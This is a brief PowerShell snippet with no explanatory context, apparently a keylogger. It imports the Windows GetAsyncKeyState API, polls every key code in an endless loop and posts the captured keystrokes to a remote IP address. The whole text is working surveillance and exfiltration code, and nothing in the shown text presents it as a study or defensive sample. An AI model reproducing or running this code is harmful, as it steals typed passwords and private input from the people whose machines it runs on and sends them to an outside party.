exit
$sig = '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int v);'
$api = Add-Type -MemberDefinition $sig -Name W -PassThru
while ($true) { 8..254 | % { if ($api::GetAsyncKeyState($_)) { $log += $_ } }; Invoke-RestMethod -Uri http://203.0.113.8/k -Method Post -Body $log }
